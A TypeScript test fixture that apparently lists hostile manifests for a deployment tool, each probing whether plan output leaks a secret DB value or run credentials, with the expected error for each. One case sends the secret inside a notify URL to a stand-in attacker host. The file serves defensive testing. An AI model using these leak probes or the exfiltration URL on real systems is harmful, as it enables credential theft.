import type { HostileManifest } from './hostile-manifests.ts';

/** Manifests of an attacker who wants to find out the secret DB, or a credential of the run, from what a plan prints. */

const head = (platform: string): string => `trueup: 1\nplatform: ${platform}\nproject: prj_1\n`;
const production = (fields: string): string => `environments: { production: { ${fields} } }\n`;
const describing = (text: string): string => production(`description: ${JSON.stringify(text)}`);
const compose = (fields: string): string =>
  production(
    `compose: { shop: { source: { type: raw, composeFile: "services: { web: { image: nginx } }" }, ${fields} } }`,
  );
const composing = (text: string, fields = ''): string =>
  production(`compose: { shop: { source: { type: raw, composeFile: ${JSON.stringify(text)} }${fields} } }`);
const application = (fields: string): string =>
  production(`application: { web: { source: { type: docker, image: "nginx:1.27" }, ${fields} } }`);
const postgres = (fields: string): string =>
  production(
    `postgres: { main: { dockerImage: "postgres:17", databaseName: a, databaseUser: a, databasePassword: x, ${fields} } }`,
  );
const routed = ', domains: { a.example.com: { serviceName: web, port: 80 } }';
const db = '${secret:DB}';
const hex = (text: string): string => Buffer.from(text).toString('hex');

/** Beginnings that an attacker knows of credentials of the run, and parts of them in other forms. */
const guesses = {
  secret: 'db-cAnArY-64',
  small: 'db-canary-646',
  backwards: 'pZ7q-2646-YrAnA',
  hex: hex('db-cAnArY-'),
  apiKey: 'api-cAnArY-6',
  stateKey: 'trueup-key-1-YSBrZXkgdGhh',
  token: 'github-cAnArY-67',
  identity: 'age-cAnArY-6167',
};

/** The manifests; `platform` is the address of the platform that the pipeline names. */
export function hostileSecrets(platform: string): readonly HostileManifest[] {
  const own = head(`{ url: "${platform}" }`);
  return [
    // Guesses. What the manifest says shows, whether it is right or wrong.
    {
      intent: 'guess the beginning of a secret as a variable',
      files: describing(`\${var:${guesses.secret}}`),
      ends: 'bad-expression',
      shows: guesses.secret,
    },
    {
      intent: 'guess the beginning of the key of the state as a reference',
      files: describing(`\${ref:${guesses.stateKey}.id}`),
      ends: 'bad-reference',
      shows: guesses.stateKey,
    },
    {
      intent: 'guess the beginning of the API key as an unknown key',
      files: `${guesses.apiKey}: 1\n${production('')}`,
      ends: 'unknown-key',
      shows: guesses.apiKey,
    },
    {
      intent: 'guess a secret in small letters as an environment',
      files: `environments: { production: {}, ${guesses.small}: {} }\n`,
      ends: 'planned',
      shows: guesses.small,
    },
    {
      intent: 'guess a secret backwards as a service of a compose file',
      files: compose(`domains: { a.example.com: { serviceName: ${guesses.backwards}, port: 80 } }`),
      ends: 'inconsistent',
      shows: guesses.backwards,
    },
    {
      intent: 'guess a secret in hexadecimal as an alias',
      files: `x-a: *${guesses.hex}\n${production('')}`,
      ends: 'yaml-syntax',
      shows: guesses.hex,
    },
    {
      intent: 'guess a token as a duplicate key',
      files: `x-a: { ${guesses.token}: 1, ${guesses.token}: 2 }\n${production('')}`,
      ends: 'yaml-syntax',
      shows: guesses.token,
    },
    {
      intent: 'guess an identity as a pattern that matches nothing',
      files: `include: ["${guesses.identity}*"]\n${production('')}`,
      ends: 'file-unreadable',
      shows: guesses.identity,
    },
    {
      intent: 'guess a secret as a private name',
      files: compose(
        `private: [${guesses.secret}], env: { ${guesses.secret.replaceAll('-', '_')}: ${guesses.secret} }`,
      ),
      ends: 'planned',
      shows: guesses.secret,
    },
    {
      intent: 'guess a secret as an address that moved',
      files: `moved: [{ from: production.compose.${guesses.secret}, to: production.compose.a }]\n${production('')}`,
      ends: 'bad-move',
      shows: guesses.secret,
    },
    {
      intent: 'guess a secret as the name of an included file',
      files: { 'trueup.yaml': `include: ["part-*"]\n${production('')}`, [`part-${guesses.secret}.yaml`]: 'x: 1\n' },
      ends: 'unknown-key',
      shows: guesses.secret,
    },
    {
      intent: 'guess a secret beside the secret as a name',
      files: production(
        `compose: { a: { name: "${db}", source: { type: raw, composeFile: "services: { a: { image: a } }" } }, b: { name: ${guesses.secret}, source: { type: raw, composeFile: "services: { a: { image: a } }" } } }`,
      ),
      ends: 'misplaced-secret',
    },
    {
      intent: 'guess a secret beside the secret as a host',
      files: compose(
        `domains: { a: { host: "${db}", serviceName: web, port: 80 }, b: { host: "${guesses.small}", serviceName: web, port: 80 } }`,
      ),
      ends: 'misplaced-secret',
    },
    {
      intent: 'compare two secrets as two hosts',
      files: compose(
        `domains: { a: { host: "${db}", serviceName: web, port: 80 }, b: { host: "\${secret:UNUSED}", serviceName: web, port: 80 } }`,
      ),
      ends: 'misplaced-secret',
    },

    // Secrets where a value decides something.
    { intent: 'have a secret read as an id', files: compose(`id: "${db}"`), ends: 'not-found' },
    { intent: 'have a secret read as a rule of deployments', files: compose(`deploy: "${db}"`), ends: 'wrong-type' },
    { intent: 'have a secret read as a field', files: compose(`unset: ["${db}"]`), ends: 'bad-expression' },
    { intent: 'have a secret read as a private name', files: compose(`private: ["${db}"]`), ends: 'planned' },
    { intent: 'have a secret read as a mode', files: compose(`envMode: "${db}", env: { A: b }`), ends: 'wrong-type' },
    {
      intent: 'have a secret read as the type of a source',
      files: production(`compose: { shop: { source: { type: "${db}" } } }`),
      ends: 'wrong-type',
    },
    { intent: 'have a secret read as an amount', files: application(`memoryLimit: "${db}"`), ends: 'misplaced-secret' },
    {
      intent: 'have a secret read as a volume',
      files: application(`mounts: { /data: { type: volume, volumeName: "${db}" } }`),
      ends: 'misplaced-secret',
    },
    {
      intent: 'have a secret read as the path of a file',
      files: compose(`files: { "${db}": { content: a } }`),
      ends: 'bad-expression',
    },
    {
      intent: 'have a secret read as a schedule',
      files: postgres(`backups: { a: { schedule: "0 3 * * ${db}", destinationId: dst_1, prefix: a/ } }`),
      ends: 'misplaced-secret',
    },
    {
      intent: 'have a secret read as a destination that is not there',
      files: postgres(`backups: { a: { schedule: "0 3 * * *", destinationId: "${db}", prefix: a/ } }`),
      ends: 'misplaced-secret',
    },
    {
      intent: 'have a secret read as a part of an image',
      files: postgres(`dockerImage: "postgres:${db}"`).replace('dockerImage: "postgres:17", ', ''),
      ends: 'misplaced-secret',
    },

    // Secrets in settings and in expressions.
    { intent: 'include a secret', files: `include: ["${db}"]\n${production('')}`, ends: 'bad-expression' },
    {
      intent: 'move from a secret',
      files: `moved: [{ from: "${db}", to: production }]\n${production('')}`,
      ends: 'bad-expression',
    },
    {
      intent: 'have a secret for a platform',
      head: head(`{ url: "https://${db}" }`),
      files: describing('x'),
      ends: 'wrong-type',
    },
    {
      intent: 'have a secret for a project',
      head: `trueup: 1\nplatform: { url: "${platform}" }\nproject: "${db}"\n`,
      files: describing('x'),
      ends: 'bad-expression',
    },
    {
      intent: 'have a secret for a file of secrets',
      head: `${own}secrets: [{ file: "${db}" }]\n`,
      files: describing('${secret:OTHER}'),
      ends: 'bad-expression',
    },
    {
      intent: 'have a secret for a variable, and print that',
      files: `variables: { a: { default: "${db}" } }\n${describing('${var:a}')}`,
      ends: 'bad-expression',
    },
    {
      intent: 'ignore drift because of a secret',
      files: `drift: { ignore: [{ address: a, because: "${db}" }] }\n${production('')}`,
      ends: 'bad-expression',
    },
    {
      intent: 'send a secret as an address',
      files: `drift: { notify: [{ url: "https://attacker.example.test/${db}", as: json }] }\n${production('')}`,
      ends: 'wrong-type',
    },
    { intent: 'name an output by a secret', files: `outputs: { "${db}": a }\n${production('')}`, ends: 'wrong-type' },
    { intent: 'read a file of the name of a secret', files: describing(`\${file:${db}}`), ends: 'file-unreadable' },
    { intent: 'read a secret of the name of a secret', files: describing(`\${secret:${db}}`), ends: 'bad-expression' },
    {
      intent: 'accept drift because of a secret',
      files: {
        'trueup.yaml': production(''),
        'accepted.yaml': `trueup-accepted: 1\naccepted:\n  - { address: "${db}", until: 2099-01-01, because: "${db}", by: "${db}" }\n`,
      },
      ends: 'accepted-drift',
    },

    // YAML.
    {
      intent: 'use a secret as a key by an alias',
      files: `x-a: &a "${db}"\nenvironments: { production: { env: { ? *a : b } } }\n`,
      ends: 'yaml-syntax',
    },
    {
      intent: 'merge a secret',
      files: `x-a: &a "${db}"\nenvironments: { production: { env: { <<: *a } } }\n`,
      ends: 'yaml-syntax',
    },
    {
      intent: 'make a key of a secret too long to quote',
      files: production(`env: { "${db}${'x'.repeat(100_000)}": b }`),
      ends: 'bad-expression',
    },
    { intent: 'write a secret ten thousand times', files: describing(db.repeat(10_000)), ends: 'planned' },
    {
      intent: 'have a secret read as a service of a compose file',
      files: composing(`services: { "${db}": { image: nginx } }`, routed),
      ends: 'misplaced-secret',
    },
    {
      intent: 'have a secret read as an alias in a compose file',
      files: composing(`services: { web: { image: *${db} } }`, routed),
      ends: 'inconsistent',
    },
    {
      intent: 'have a secret read as a tag in a compose file',
      files: composing(`services: { web: { image: !${db} x } }`, routed),
      ends: 'inconsistent',
    },
    {
      intent: 'have a secret read as a port in a compose file',
      files: composing(`services: { web: { image: nginx, ports: ["${db}:80"] } }`, routed),
      ends: 'planned',
    },
    {
      intent: 'break a compose file behind a secret',
      files: composing(`services: { web: { image: "nginx${db} } }`, routed),
      ends: 'inconsistent',
    },
    {
      intent: 'have a secret read as two texts',
      files: composing(`services: { web: { image: nginx, command: [a, ${db}, b] } }`, routed),
      ends: 'planned',
    },
    {
      intent: 'write a line of an env behind a secret',
      files: compose(`env: "A=${db}\\nno line ${db}\\n"`),
      ends: 'planned',
    },
    {
      intent: 'stand for a secret oneself',
      files: compose(`env: { A: "(sensitive)", B: "x(sensitive)${db}" }`),
      ends: 'planned',
    },
  ];
}
